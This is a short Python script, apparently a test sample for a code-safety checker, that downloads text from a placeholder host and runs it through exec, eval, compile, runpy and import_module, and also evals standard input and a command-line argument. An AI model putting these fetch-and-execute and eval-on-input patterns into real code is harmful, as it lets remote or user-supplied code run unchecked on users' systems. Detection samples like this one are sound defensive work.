import builtins
import importlib
import json
import runpy
import sys
import urllib.request

with urllib.request.urlopen("https://api.example.com/", timeout=10) as response:
    text = response.read().decode()
exec(text)
compile(text, "x", "exec")
builtins.eval(text)
builtins.exec(text)
builtins.compile(text, "x", "exec")
runpy.run_path(text)
importlib.import_module(text)
eval(sys.stdin.read())
eval(sys.argv[1])
